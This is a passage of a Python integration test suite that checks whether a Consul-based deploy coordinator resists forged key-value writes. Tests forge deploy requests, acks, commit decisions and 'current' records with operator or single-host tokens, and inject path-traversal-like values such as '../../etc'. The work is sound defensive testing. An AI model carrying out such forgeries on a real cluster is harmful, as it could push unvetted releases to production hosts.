"""DESIGN.md 6.4's attacks, each with exactly one token acting through raw KV writes.

A real 3-host cluster with ACLs on (default deny), every watcher with its own
least-privilege token (docs/acl). After each attack: no host runs a release that every
expected host did not ack, and the next normal deploy works.
"""

# ruff: noqa: F811  (the shared acl_fleet fixture is imported, then named as a parameter)
from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import subprocess
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml
from fastapi.testclient import TestClient

# The ACL fleet fixture is shared with test_deploy_acl (its name is a parameter below).
from tests.integration.test_deploy_acl import AclFleet, acl_fleet, client  # noqa: F401
from tests.support.cluster import ClusterSpec
from tests.support.fleet import BIN, Fleet, WatcherProc, wait_for
from tests.support.s3server import s3_client
from watcher.barrier import DeployStore, new_deploy_id
from watcher.config import HISTORY_MAX, load_config
from watcher.consul_api import ConsulClient, TxnOp
from watcher.errors import ConsulPermissionDenied
from watcher.records import (
    ABORT,
    COMMIT,
    FAILED,
    LIVE,
    ArtifactRecord,
    CurrentRecord,
    Decision,
    DeployRecord,
    NodeProgress,
    Outcome,
    PinRecord,
    ReleaseRef,
    iso,
    utcnow,
    watcher_session_name,
)
from watcher.web.app import create_app

CLUSTER = ClusterSpec(hosts=3, acl=True)
# For tests that SIGSTOP watchers while other processes run: with the fleet's 3 s TTL a
# stopped watcher's session goes 4.5-6 s after its last renewal, which a loaded runner's
# few `watcherctl` starts can reach (the deploy then aborts for a lost member).
LONG_SESSIONS = pytest.mark.parametrize(
    "acl_fleet", [{"session_ttl": "30s"}], indirect=True, ids=["ttl30"]
)


# --- helpers -------------------------------------------------------------------------------


def deploy(acl: AclFleet, artifact_id: str) -> dict[str, Any]:
    result = json.loads(acl.operator("deploy", "web", artifact_id).stdout)
    assert result["result"] == "committed", result
    acl.fleet.wait_idle()
    return result


def baseline(acl: AclFleet) -> tuple[dict[str, Any], dict[str, Any], str]:
    """v1 published and committed on every host: (artifact record, deploy summary, release)."""
    v1 = acl.publish("v1")
    result = deploy(acl, v1["id"])
    assert set(acl.fleet.currents().values()) == {result["release"]}
    return v1, result, result["release"]


def next_deploy_works(acl: AclFleet, version: str) -> str:
    """The invariant after every attack: a normal deploy commits and every host runs it."""
    art = acl.publish(version)
    result = deploy(acl, art["id"])
    assert acl.fleet.currents() == {w.name: result["release"] for w in acl.fleet.watchers}
    return str(result["release"])


def host_client(acl: AclFleet, index: int) -> ConsulClient:
    w = acl.fleet.watchers[index]
    return client(w.agent, acl.tokens.watchers[w.name])


def operator_client(acl: AclFleet) -> ConsulClient:
    return client(acl.fleet.watchers[0].agent, acl.tokens.operator)


def ci_client(acl: AclFleet) -> ConsulClient:
    return client(acl.fleet.watchers[0].agent, acl.tokens.ci)


def store_with(consul: ConsulClient, fleet: Fleet) -> DeployStore:
    return DeployStore(consul, fleet.kv_prefix, "web")


def forged_request(
    fleet: Fleet, deploy_id: str, expected: dict[str, str], artifact: dict[str, Any]
) -> DeployRecord:
    store = store_with(fleet.kv, fleet)
    record = ArtifactRecord.from_dict(artifact)
    return store.new_record(
        deploy_id=deploy_id,
        kind="deploy",
        artifact=record,
        release=None,
        requested_by="mallory",
        expected=expected,
        prepare_timeout=60,
        apply_timeout=60,
    )


def long_past_request(
    fleet: Fleet, expected: dict[str, str], artifact: dict[str, Any]
) -> DeployRecord:
    """``forged_request`` made ten minutes ago, its deadlines long past: a node it names
    that holds its session without acking is STALLED at once."""
    past = utcnow() - timedelta(minutes=10)
    return replace(
        forged_request(fleet, new_deploy_id(past), expected, artifact),
        requested_at=iso(past),
        prepare_deadline=iso(past + timedelta(seconds=30)),
        apply_deadline=iso(past + timedelta(seconds=60)),
    )


def management_config(acl: AclFleet) -> Path:
    """The operator's config with the management token (the one that may end any host's
    session)."""
    admin = yaml.safe_load(acl.operator_config.read_text())
    admin["consul"]["token"] = acl.fleet.cluster.management_token
    path = acl.fleet.workdir / "admin.yaml"
    path.write_text(yaml.safe_dump(admin))
    return path


def start_as_operator(acl: AclFleet, rec: DeployRecord) -> None:
    """Write ``rec`` and ``inflight`` in one txn with the operator's token, as a watcherctl
    of someone else's would (no check of what the request says)."""
    keys = acl.fleet.keys
    assert (
        operator_client(acl)
        .txn(
            [
                TxnOp.cas(keys.inflight, rec.id.encode(), 0),
                TxnOp.cas(keys.request(rec.id), rec.to_json(), 0),
            ]
        )
        .ok
    )


def sessions(fleet: Fleet) -> dict[str, str]:
    return {n: e.session or "" for n, e in store_with(fleet.kv, fleet).members().items()}


def slow_hook(fleet: Fleet, phase: str, seconds: float, *, fail_on: str | None = None) -> None:
    """Give every watcher a hook that sleeps (and fails on one host), then restart them."""
    for w in fleet.watchers:
        fleet.give_hook(w, phase, seconds, 3 if w.name == fail_on else 0)
    fleet.wait_members(len(fleet.watchers))


def gated_hook(fleet: Fleet, phase: str, gate: Path) -> None:
    """Give every watcher a hook that waits until ``gate`` exists, then restart them."""
    for w in fleet.watchers:
        fleet.give_gated_hook(w, phase, gate)
    fleet.wait_members(len(fleet.watchers))


def start_deploy_async(
    acl: AclFleet, artifact_id: str, *, human: bool = False
) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [
            str(BIN / "watcherctl"),
            "deploy",
            "web",
            artifact_id,
            "-c",
            str(acl.operator_config),
            *([] if human else ["--json"]),
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=acl.fleet.watchers[0].env(),
    )


def wait_request(fleet: Fleet) -> str:
    wait_for(lambda: fleet.inflight() is not None, 30, "a deploy in flight", fleet)
    deploy_id = fleet.inflight()
    assert deploy_id is not None
    return deploy_id


def ack_state(fleet: Fleet, deploy_id: str, node: str) -> str:
    entry = fleet.kv.kv_get(fleet.keys.progress(deploy_id, node))
    return str(json.loads(entry.value)["state"]) if entry and entry.value else ""


def every_host_joined(fleet: Fleet, deploy_id: str) -> None:
    wait_for(
        lambda: all(ack_state(fleet, deploy_id, w.name) for w in fleet.watchers),
        20,
        "every host staging",
        fleet,
    )


def releases_of(fleet: Fleet) -> set[str | None]:
    return set(fleet.currents().values())


def fleet_status(acl: AclFleet) -> dict[str, Any]:
    """`watcherctl status --fleet` as an operator reads it: the app's part. Its exit code
    must say what it shows: 1 with a record NOT TRUSTED (or acks that contradict each
    other), 0 with none, so a script cannot read "ok" from a forged fleet."""
    result = acl.operator("status", "web", "--fleet", check=False)
    app = dict(json.loads(result.stdout)["web"])
    deploy = app["deploy"] or {}
    doubt = bool(
        app["current_problems"]
        or app["current_failed"]
        or deploy.get("distrusted")
        or deploy.get("stalled")
        or deploy.get("decision") == "contested"
        or any(h["alarm"] and h["member"] for h in app["hosts"].values())
    )
    assert result.returncode == (1 if doubt else 0), (result.returncode, app, result.stderr)
    return app


def human_fleet_status(acl: AclFleet) -> str:
    """`watcherctl status --fleet` as a person reads it (the operator's token)."""
    argv = [str(BIN / "watcherctl"), "status", "web", "--fleet", "-c", str(acl.operator_config)]
    env = acl.fleet.watchers[0].env()
    result = subprocess.run(argv, capture_output=True, text=True, env=env, timeout=60)
    assert result.returncode in (0, 1), (result.stdout, result.stderr)
    return result.stdout


def history_row_or_none(acl: AclFleet, deploy_id: str) -> dict[str, Any] | None:
    """`watcherctl history` of one deploy, as an operator reads it."""
    rows = json.loads(acl.operator("history", "web").stdout)
    return next((dict(r) for r in rows if r["deploy"] == deploy_id), None)


def history_row(acl: AclFleet, deploy_id: str) -> dict[str, Any]:
    row = history_row_or_none(acl, deploy_id)
    assert row is not None, f"deploy {deploy_id} is not in the history"
    return row


# --- operator --------------------------------------------------------------------------------


class TestOperatorToken:
    def test_decision_current_and_acks_are_refused(self, acl_fleet: AclFleet) -> None:
        fleet = acl_fleet.fleet
        _, result, release = baseline(acl_fleet)
        op = operator_client(acl_fleet)
        forged = Decision(outcome=COMMIT, reason="forged", by="host-1", at=iso(utcnow()))
        for key, value in (
            (fleet.keys.decision(result["deploy"]), forged.to_json()),
            (fleet.keys.current, b"{}"),
            (fleet.keys.progress(result["deploy"], "host-2"), b"{}"),
            (fleet.keys.outcome(result["deploy"]), b"{}"),
            (fleet.keys.history, b"{}"),
            (fleet.keys.pin("main-00000000"), b"{}"),
        ):
            with pytest.raises(ConsulPermissionDenied):
                op.kv_put(key, value)
        assert releases_of(fleet) == {release}
        next_deploy_works(acl_fleet, "v2")

    def test_request_rewritten_or_deleted_after_commit_changes_nothing(
        self, acl_fleet: AclFleet
    ) -> None:
        fleet = acl_fleet.fleet
        _, result, release = baseline(acl_fleet)
        op = operator_client(acl_fleet)
        key = fleet.keys.request(result["deploy"])
        entry = op.kv_get(key)
        assert entry is not None and entry.value is not None
        data = json.loads(entry.value)
        data["release"] = "20200101T000000Z-evil-00000000"
        data["sha256"] = "0" * 64
        assert op.kv_put(key, json.dumps(data).encode())
        time.sleep(2)
        assert releases_of(fleet) == {release}
        # Readers too take the request the acks carry, not the rewritten one.
        row = history_row(acl_fleet, result["deploy"])
        assert (row["result"], row["release"]) == ("committed", release), row
        status = fleet_status(acl_fleet)
        assert (status["current"], status["current_problems"]) == (release, {}), status
        assert op.kv_delete(key)
        for w in fleet.watchers:  # a restart makes every host converge from KV again
            w.stop()
            w.start()
        fleet.wait_members(3)
        time.sleep(2)
        assert releases_of(fleet) == {release}
        row = history_row(acl_fleet, result["deploy"])
        assert (row["result"], row["release"]) == ("committed", release), row
        next_deploy_works(acl_fleet, "v2")

    def test_inflight_deleted_mid_prepare_still_decides_one_way(self, acl_fleet: AclFleet) -> None:
        fleet = acl_fleet.fleet
        _, _, release1 = baseline(acl_fleet)
        slow_hook(fleet, "post_release", 2)
        v2 = acl_fleet.publish("v2")
        proc = start_deploy_async(acl_fleet, v2["id"])
        deploy_id = wait_request(fleet)
        assert operator_client(acl_fleet).kv_delete(fleet.keys.inflight)
        outcome = fleet.wait_outcome(deploy_id, 40)
        proc.wait(timeout=60)
        fleet.wait_idle(30)
        time.sleep(1)
        expected = outcome["result"] == "committed"
        releases = releases_of(fleet)
        assert len(releases) == 1, f"split fleet: {fleet.currents()}"
        assert (releases != {release1}) == expected, (outcome, fleet.currents())
        next_deploy_works(acl_fleet, "v3")

    def test_a_live_host_left_out_of_the_request_is_refused(self, acl_fleet: AclFleet) -> None:
        fleet = acl_fleet.fleet
        _, _, release1 = baseline(acl_fleet)
        v2 = acl_fleet.publish("v2")
        live = sessions(fleet)
        left_out = {n: s for n, s in live.items() if n != "host-3"}
        rec = forged_request(fleet, "leftout1", left_out, v2)
        start_as_operator(acl_fleet, rec)
        outcome = fleet.wait_outcome(rec.id, 40)
        assert outcome["result"] == "aborted", outcome
        assert "host-3" in outcome["reason"], outcome
        assert releases_of(fleet) == {release1}
        fleet.wait_idle()
        next_deploy_works(acl_fleet, "v3")

    def test_a_rollback_to_a_release_that_never_committed_is_refused_by_every_host(
        self, acl_fleet: AclFleet
    ) -> None:
        """`watcherctl rollback` goes only to a committed deploy's release, but an operator's
        token can write any request: the hosts check the target themselves (its acks must
        commit it), or a raw rollback would put the fleet on a release that never passed
        the barrier. Nothing tested that host-side check."""
        fleet = acl_fleet.fleet
        _, _, release1 = baseline(acl_fleet)
        v2 = acl_fleet.publish("v2")
        live = sessions(fleet)
        aborted = forged_request(
            fleet, "leftout2", {n: s for n, s in live.items() if n != "host-3"}, v2
        )
        start_as_operator(acl_fleet, aborted)
        assert fleet.wait_outcome(aborted.id, 40)["result"] == "aborted"
        fleet.wait_idle()
        target = ReleaseRef(
            aborted.release,
            aborted.artifact,
            aborted.sha256,
            aborted.id,
            aborted.url,
            aborted.size,
        )
        rollback = store_with(fleet.kv, fleet).new_record(
            deploy_id="rbforged1",
            kind="rollback",
            artifact=target,
            release=aborted.release,
            requested_by="mallory",
            expected=live,
            prepare_timeout=60,
            apply_timeout=60,
        )
        start_as_operator(acl_fleet, rollback)
        outcome = fleet.wait_outcome(rollback.id, 40)
        assert outcome["result"] == "aborted", outcome
        for node, host in outcome["hosts"].items():
            assert host["state"] in ("refused", "failed", "aborted"), (node, outcome)
        said = [h.get("error", "") for h in outcome["hosts"].values()]
        assert any(f"{aborted.id} is not a committed deploy" in e for e in said), outcome
        assert releases_of(fleet) == {release1}
        fleet.wait_idle()
        next_deploy_works(acl_fleet, "v3")

    def test_a_wrong_format_is_refused_and_not_held_against_the_content(
        self, acl_fleet: AclFleet
    ) -> None:
        # Read as plain tar, good tar.gz bytes would be refused, and a refusal is remembered
        # by content: the next honest deploy of the same artifact would be refused too.
        fleet = acl_fleet.fleet
        _, _, release1 = baseline(acl_fleet)
        v2 = acl_fleet.publish("v2")
        rec = replace(forged_request(fleet, "wrongfmt1", sessions(fleet), v2), format="tar")
        start_as_operator(acl_fleet, rec)
        outcome = fleet.wait_outcome(rec.id, 40)
        assert outcome["result"] == "aborted", outcome
        assert "(tar)" in outcome["reason"] and "(tar.gz)" in outcome["reason"], outcome
        assert releases_of(fleet) == {release1}
        fleet.wait_idle()
        result = deploy(acl_fleet, v2["id"])
        assert releases_of(fleet) == {result["release"]}

    @pytest.mark.parametrize("dated", ["an hour ahead", "at the end of the calendar"])
    def test_a_request_dated_ahead_of_the_hosts_clocks_is_refused(
        self, acl_fleet: AclFleet, dated: str
    ) -> None:
        fleet = acl_fleet.fleet
        _, _, release1 = baseline(acl_fleet)
        v2 = acl_fleet.publish("v2")
        store = store_with(fleet.kv, fleet)
        rec = store.new_record(
            deploy_id="ahead1" if dated == "an hour ahead" else "ahead2",
            kind="deploy",
            artifact=ArtifactRecord.from_dict(v2),
            release=None,
            requested_by="mallory",
            expected=sessions(fleet),
            prepare_timeout=60,
            apply_timeout=60,
            now=(
                utcnow() + timedelta(hours=1)
                if dated == "an hour ahead"
                else datetime(9999, 12, 31, 23, 57, 30, tzinfo=UTC)  # + timeouts overflows
            ),
        )
        start_as_operator(acl_fleet, rec)
        outcome = fleet.wait_outcome(rec.id, 40)
        assert outcome["result"] == "aborted", outcome
        assert "ahead of this host's clock" in outcome["reason"], outcome
        assert releases_of(fleet) == {release1}
        fleet.wait_idle()
        next_deploy_works(acl_fleet, "v3")

    def test_dormant_request_overwritten_after_a_host_rejoined(self, acl_fleet: AclFleet) -> None:
        fleet = acl_fleet.fleet
        _v1, result, release1 = baseline(acl_fleet)
        w3 = fleet.watchers[2]
        w3.stop()
        shutil.rmtree(w3.app_dir / ".state")
        w3.start()
        fleet.wait_members(3)
        v2 = acl_fleet.publish("v2")
        op = operator_client(acl_fleet)
        rec = forged_request(fleet, result["deploy"], sessions(fleet), v2)
        assert op.kv_put(fleet.keys.request(result["deploy"]), rec.to_json())
        assert op.kv_put(fleet.keys.inflight, result["deploy"].encode())
        wait_for(lambda: fleet.inflight() is None, 20, "inflight naming an ended deploy cleared")
        time.sleep(1)
        assert releases_of(fleet) == {release1}
        next_deploy_works(acl_fleet, "v3")

    def test_a_cleared_id_put_back_in_inflight_is_cleared_again(self, acl_fleet: AclFleet) -> None:
        """An id with no request in `inflight` is cleared with a "refused" outcome; the
        same id put back must be cleared again (the outcome is there now, and the end of
        a deploy is no longer an outcome record alone: it stayed, refusing every deploy)."""
        fleet = acl_fleet.fleet
        baseline(acl_fleet)
        op = operator_client(acl_fleet)
        ghost = new_deploy_id()
        for _ in range(2):
            assert op.kv_put(fleet.keys.inflight, ghost.encode())
            wait_for(lambda: fleet.inflight() is None, 20, "the ghost in inflight cleared", fleet)
            assert fleet.kv.kv_get(fleet.keys.outcome(ghost)) is not None
        next_deploy_works(acl_fleet, "v2")

    def test_a_stale_or_forged_inflight_does_not_change_what_history_lists(
        self, acl_fleet: AclFleet
    ) -> None:
        """The second attacker round: `history` lists the deploy `inflight` names first,
        but an `inflight` naming the last deploy (ended, in the history) hid that deploy,
        and one naming no deploy took a --limit slot: `history --limit 1` listed nothing.
        With every watcher stopped nobody clears such an `inflight`."""
        from watcher.ctl_fleet import deploy_history_checked

        fleet = acl_fleet.fleet
        first = baseline(acl_fleet)[1]["deploy"]
        next_deploy_works(acl_fleet, "v2")
        ids = json.loads(fleet.kv.kv_get(fleet.keys.history).value)["deploys"]  # type: ignore[union-attr]
        assert ids[0] == first and len(ids) == 2, ids
        for w in fleet.watchers:
            w.stop()
        try:
            reader = store_with(operator_client(acl_fleet), fleet)
            x = host_client(acl_fleet, 2)
            for named in (ids[-1], ids[0], new_deploy_id(), "../x"):
                assert x.kv_put(fleet.keys.inflight, named.encode())
                for limit in (1, 2, 10):
                    rows, _ = deploy_history_checked(reader, limit, in_flight=True)
                    listed = [r["deploy"] for r in rows]
                    assert listed == list(reversed(ids))[:limit], (named, limit, listed)
        finally:
            fleet.kv.kv_delete(fleet.keys.inflight)
            for w in fleet.watchers:
                w.start()
            fleet.wait_members(3)
        next_deploy_works(acl_fleet, "v3")

    def test_garbage_in_inflight_is_cleared(self, acl_fleet: AclFleet) -> None:
        fleet = acl_fleet.fleet
        baseline(acl_fleet)
        op = operator_client(acl_fleet)
        for garbage in (b"../../etc", b"no-such-deploy", b"\xff\xfe"):
            assert op.kv_put(fleet.keys.inflight, garbage)
            wait_for(lambda: fleet.inflight() is None, 20, f"inflight {garbage!r} cleared", fleet)
        next_deploy_works(acl_fleet, "v2")


# --- one host ----------------------------------------------------------------------------------


def forged_live_ack(fleet: Fleet, rec: DeployRecord, node: str, create_index: int) -> NodeProgress:
    return NodeProgress(
        node=node,
        state=LIVE,
        deploy=rec.id,
        digest=rec.digest(),
        create_index=create_index,
        release=rec.release,
        sha256=rec.sha256,
    )


def forge_solo_deploy(acl: AclFleet, suffix: str, version: str) -> DeployRecord:
    """host-3's token, alone: a request expecting host-3 only, its live ack and carried
    copy, a commit decision, and `current` naming it."""
    fleet = acl.fleet
    v2 = acl.publish(version)
    x = host_client(acl, 2)
    me = "host-3"
    rec = forged_request(fleet, suffix, {me: sessions(fleet)[me]}, v2)
    assert x.kv_put(fleet.keys.request(rec.id), rec.to_json(), cas=0)
    index = x.kv_get(fleet.keys.request(rec.id)).create_index  # type: ignore[union-attr]
    ack = forged_live_ack(fleet, rec, me, index)
    assert x.kv_put(fleet.keys.progress(rec.id, me), ack.to_json())
    assert x.kv_put(fleet.keys.carried_request(rec.id, me), rec.canonical())
    decision = Decision(outcome=COMMIT, reason="forged", by=me, at=iso(utcnow()))
    assert x.kv_put(fleet.keys.decision(rec.id), decision.to_json())
    current = CurrentRecord(
        release=rec.release,
        artifact=rec.artifact,
        sha256=rec.sha256,
        deploy=rec.id,
        url=rec.url,
        size=rec.size,
        create_index=index,
        digest=rec.digest(),
    )
    assert x.kv_put(fleet.keys.current, current.to_json())
    return rec


def contest_after_commit(acl: AclFleet, version: str) -> tuple[subprocess.Popen[str], str]:
    """Deploy ``version``; once every host committed, host-3's token rewrites its own ack
    to failed (DESIGN.md 6.4.4: contested). The hosts' validate must still be running."""
    fleet = acl.fleet
    proc = start_deploy_async(acl, acl.publish(version)["id"])
    deploy_id = wait_request(fleet)
    wait_for(
        lambda: all(
            ack_state(fleet, deploy_id, w.name) in ("committed", "live") for w in fleet.watchers
        ),
        30,
        "every host committed",
        fleet,
    )
    x = host_client(acl, 2)
    entry = x.kv_get(fleet.keys.progress(deploy_id, "host-3"))
    assert entry is not None and entry.value is not None
    rewritten = {**json.loads(entry.value), "state": FAILED, "error": "forged"}
    assert x.kv_put(fleet.keys.progress(deploy_id, "host-3"), json.dumps(rewritten).encode())
    return proc, deploy_id


def said_in_a_cycle(fleet: Fleet, w: WatcherProc, said: str) -> None:
    """Wait until a cycle of ``w`` since its last start says ``said`` in its outcome."""
    wait_for(
        lambda: any(said in str(e.get("outcome")) for e in w.log_events("cycle", this_start=True)),
        30,
        f"{w.name} saying {said!r}",
        fleet,
    )


def veto_own_ack(acl: AclFleet, deploy_id: str) -> None:
    """host-3's token gives its own ack of ``deploy_id`` another CreateIndex claim: the
    acks no longer agree, a veto of that deploy for whoever judges it from now on."""
    x = host_client(acl, 2)
    key = acl.fleet.keys.progress(deploy_id, "host-3")
    entry = x.kv_get(key)
    assert entry is not None and entry.value is not None
    ack = json.loads(entry.value)
    assert x.kv_put(key, json.dumps({**ack, "create_index": ack["create_index"] - 1}).encode())


def left_out_alarm(w: WatcherProc) -> str:
    """The problems ``w``'s `status` reports (its /health), as JSON text."""
    run = w.ctl("status", check=False)
    return json.dumps(json.loads(run.stdout)["daemon"].get("problems"))


class TestOneHostToken:
    def test_a_solo_deploy_with_commit_and_current_moves_no_other_host(
        self, acl_fleet: AclFleet
    ) -> None:
        fleet = acl_fleet.fleet
        _, _, release1 = baseline(acl_fleet)
        x = host_client(acl_fleet, 2)
        rec = forge_solo_deploy(acl_fleet, "solo1", "v2")
        time.sleep(4)
        for w in fleet.watchers[:2]:
            assert w.current() == release1, fleet.currents()
        wait_for(
            lambda: "commit_not_trusted" in fleet.watchers[0].log_text(),
            20,
            "commit_not_trusted",
            fleet,
        )
        # The hosts left out raise the alarm (DESIGN.md 6.4.5): /health, `status`, their
        # host records; they used to log it only.
        honest = fleet.watchers[0]

        def alarm_said() -> str:
            return left_out_alarm(honest)

        wait_for(lambda: "only host-3 acked" in alarm_said(), 20, "the alarm", fleet)
        assert f"current names deploy {rec.id}" in alarm_said()
        # Readers say so too: the fleet view (exit 1) and the history row, with the hosts
        # left out; it used to show the forgery as the fleet's release, unflagged, and the
        # honest hosts as the ones behind.
        history = json.loads(x.kv_get(fleet.keys.history).value)  # type: ignore[union-attr]
        history["deploys"].append(rec.id)
        assert x.kv_put(fleet.keys.history, json.dumps(history).encode())
        said = "only host-3 acked, while host-1, host-2 were already in the fleet"
        status = fleet_status(acl_fleet)
        assert said in status["current_problems"].get("current", ""), status
        row = history_row(acl_fleet, rec.id)
        assert any(said in note for note in row["distrusted"]), row
        # A rollback to it would abort on the hosts it left out: refused at once.
        back = acl_fleet.operator("rollback", "web", "--to", rec.release, check=False)
        assert back.returncode == 4, (back.stdout, back.stderr)
        assert f"refusing to roll back to {rec.release} (deploy {rec.id}), which {said}" in (
            back.stderr
        ), back.stderr
        # host-3's own daemon may follow its own forgery; the honest hosts never do.
        x.kv_delete(fleet.keys.current)
        next_deploy_works(acl_fleet, "v3")
        assert not fleet_status(acl_fleet)["current_problems"]  # a fleet deploy: trusted
        wait_for(lambda: "only host-3 acked" not in alarm_said(), 20, "alarm lifted", fleet)

    def test_a_left_out_alarm_does_not_keep_a_contested_deploy_from_its_hold(
        self, acl_fleet: AclFleet
    ) -> None:
        """host-1 carries the alarm of host-3's forged solo deploy when host-3's token
        makes the next deploy contested. host-1, the coordinator, skipped its contested
        hold because some alarm was set (DESIGN.md 6.4.4 wants a hold and an alarm), and
        when `current` changed later the lifted alarm left it with neither."""
        fleet = acl_fleet.fleet
        baseline(acl_fleet)
        slow_hook(fleet, "validate", 6)  # the rewritten ack must land while hosts validate
        forge_solo_deploy(acl_fleet, "solo2", "v2")
        coordinator = fleet.watchers[0]
        wait_for(lambda: "only host-3 acked" in left_out_alarm(coordinator), 30, "the alarm", fleet)
        proc, deploy_id = contest_after_commit(acl_fleet, "v3")
        assert fleet.wait_outcome(deploy_id, 40)["result"] == "contested"
        proc.wait(timeout=60)
        holds = coordinator.app_dir / ".state" / "holds.json"
        wait_for(holds.exists, 20, "the coordinator's contested hold", fleet)
        assert f"deploy {deploy_id} is contested" in holds.read_text(), holds.read_text()
        wait_for(
            lambda: f"deploy {deploy_id} is contested" in left_out_alarm(coordinator),
            20,
            "the contested alarm",
            fleet,
        )
        for w in fleet.watchers:
            if (w.app_dir / ".state" / "holds.json").exists():
                w.ctl("release-hold", "web", as_json=False)
        host_client(acl_fleet, 2).kv_delete(fleet.keys.current)
        slow_hook(fleet, "validate", 0)
        next_deploy_works(acl_fleet, "v4")

    def test_forged_commit_while_others_stage_flips_nobody(self, acl_fleet: AclFleet) -> None:
        fleet = acl_fleet.fleet
        _, _, release1 = baseline(acl_fleet)
        slow_hook(fleet, "post_release", 2, fail_on="host-2")
        v2 = acl_fleet.publish("v2")
        proc = start_deploy_async(acl_fleet, v2["id"])
        deploy_id = wait_request(fleet)
        x = host_client(acl_fleet, 2)
        decision = Decision(outcome=COMMIT, reason="forged", by="host-3", at=iso(utcnow()))
        x.kv_put(fleet.keys.decision(deploy_id), decision.to_json(), cas=0)
        seen: set[str | None] = set()
        end = time.monotonic() + 30
        while fleet.outcome(deploy_id) is None and time.monotonic() < end:
            seen |= releases_of(fleet)
            time.sleep(0.05)
        proc.wait(timeout=60)
        outcome = fleet.wait_outcome(deploy_id)
        assert outcome["result"] == "aborted", outcome
        assert seen == {release1}, f"a host ran an uncommitted release: {seen}"
        fleet.wait_idle()
        slow_hook(fleet, "post_release", 0)
        next_deploy_works(acl_fleet, "v3")

    def test_a_false_decided_mark_flips_nobody(self, acl_fleet: AclFleet) -> None:
        """host-3's token marks a commit in its own member key while host-2 still stages
        (and will fail): a ready host writes its intent on it, but flips only on its own
        read of every ack; the deploy ends contested (host-3 could do that alone by
        rewriting its own ack), nobody runs the new release."""
        fleet = acl_fleet.fleet
        _, _, release1 = baseline(acl_fleet)
        # host-2 stages until host-1 has heeded the mark (or 30 s passed), then its
        # post_release fails: a gate, not a fixed sleep that a loaded runner may outlast.
        gate = fleet.workdir / "host-2-fails-now"
        for w in fleet.watchers:
            if w.name == "host-2":
                fleet.give_gated_hook(w, "post_release", gate, 3)
            else:
                fleet.give_hook(w, "post_release", 0)
        fleet.wait_members(3)
        v2 = acl_fleet.publish("v2")
        proc = start_deploy_async(acl_fleet, v2["id"])
        deploy_id = wait_request(fleet)
        wait_for(
            lambda: (
                ack_state(fleet, deploy_id, "host-1") == "ready"
                and ack_state(fleet, deploy_id, "host-3") == "ready"
            ),
            30,
            "host-1 and host-3 ready",
            fleet,
        )
        entry = fleet.kv.kv_get(fleet.keys.progress(deploy_id, "host-1"))
        assert entry is not None and entry.value is not None
        digest = json.loads(entry.value)["digest"]
        x = host_client(acl_fleet, 2)
        member = x.kv_get(fleet.keys.member("host-3"))
        assert member is not None and member.value is not None
        marked = {
            **json.loads(member.value),
            "decided": {"deploy": deploy_id, "outcome": "commit", "digest": digest},
        }
        assert x.kv_put(fleet.keys.member("host-3"), json.dumps(marked).encode())
        seen: set[str | None] = set()
        intents: set[str] = set()
        marked_at = time.monotonic()
        while fleet.outcome(deploy_id) is None and time.monotonic() < marked_at + 90:
            seen |= releases_of(fleet)
            intents.add(ack_state(fleet, deploy_id, "host-1"))
            if "committed" in intents or time.monotonic() > marked_at + 30:
                gate.touch()
            time.sleep(0.05)
        gate.touch()
        proc.wait(timeout=60)
        outcome = fleet.wait_outcome(deploy_id)
        assert "committed" in intents, f"host-1 did not heed the mark: {intents}"
        assert seen == {release1}, f"a host ran an uncommitted release: {seen}"
        assert outcome["result"] == "contested", outcome
        fleet.wait_idle()
        assert releases_of(fleet) == {release1}
        # Held and alarmed; and still alarmed after a restart (the hold is on disk, the
        # alarm was only in memory: /health said 200 after it).
        held = next(w for w in fleet.watchers if (w.app_dir / ".state" / "holds.json").exists())
        wait_for(lambda: "is contested" in left_out_alarm(held), 30, "the alarm", fleet)
        held.stop()
        held.start()
        fleet.wait_members(3)
        wait_for(
            lambda: f"deploy {deploy_id} is contested" in left_out_alarm(held),
            30,
            "the alarm after a restart",
            fleet,
        )
        for w in fleet.watchers:
            if (w.app_dir / ".state" / "holds.json").exists():
                w.ctl("release-hold", "web", as_json=False)
        slow_hook(fleet, "post_release", 0)
        next_deploy_works(acl_fleet, "v3")

    def test_commit_decision_replaced_by_an_abort_after_flips(self, acl_fleet: AclFleet) -> None:
        fleet = acl_fleet.fleet
        _, result, release1 = baseline(acl_fleet)
        x = host_client(acl_fleet, 2)
        assert x.kv_delete(fleet.keys.decision(result["deploy"]))
        forged = Decision(outcome="abort", reason="forged", by="host-3", at=iso(utcnow()))
        assert x.kv_put(fleet.keys.decision(result["deploy"]), forged.to_json())
        for w in fleet.watchers:
            w.stop()
            w.start()
        fleet.wait_members(3)
        time.sleep(2)
        assert releases_of(fleet) == {release1}
        for w in fleet.watchers:
            assert (w.app_dir / "releases" / release1).is_dir()
        row = history_row(acl_fleet, result["deploy"])
        assert row["result"] == "committed", row
        assert row["decision"]["outcome"] == COMMIT, row
        assert any("decision record (abort" in n for n in row["distrusted"]), row
        next_deploy_works(acl_fleet, "v2")

    def test_current_pointed_at_an_older_deploy_moves_nobody(self, acl_fleet: AclFleet) -> None:
        fleet = acl_fleet.fleet
        _v1, _first, release1 = baseline(acl_fleet)
        release2 = next_deploy_works(acl_fleet, "v2")
        x = host_client(acl_fleet, 2)
        entry = x.kv_get(fleet.keys.current)
        assert entry is not None and entry.value is not None
        current = json.loads(entry.value)
        older = dict(current["previous"])
        older["previous"] = {**current, "previous": None}
        older.pop("version", None)
        assert x.kv_put(fleet.keys.current, json.dumps(older).encode())
        time.sleep(3)
        assert releases_of(fleet) == {release2}
        # current.previous pointed at a deploy that never committed: rollback refuses.
        bogus = {**current, "previous": {**current, "deploy": "nosuchdeploy", "release": release1}}
        assert x.kv_put(fleet.keys.current, json.dumps(bogus).encode())
        status = fleet_status(acl_fleet)
        assert (status["current"], status["previous"]) == (release2, None), status
        assert "nosuchdeploy" in status["current_problems"]["previous"], status
        refused = acl_fleet.operator("rollback", "web", check=False)
        assert refused.returncode != 0, refused.stdout
        assert "named by deploy nosuchdeploy, but the acks commit none" in refused.stderr
        assert releases_of(fleet) == {release2}
        next_deploy_works(acl_fleet, "v3")

    def test_current_pointed_back_does_not_steer_a_host_that_was_away(
        self, acl_fleet: AclFleet
    ) -> None:
        """While host-1 is away, two deploys commit without it, and host-3's token writes
        back the `current` of the first of them: host-1, back, would stop at that older
        deploy, and a plain rollback would go two releases back. Then, host-1 away again
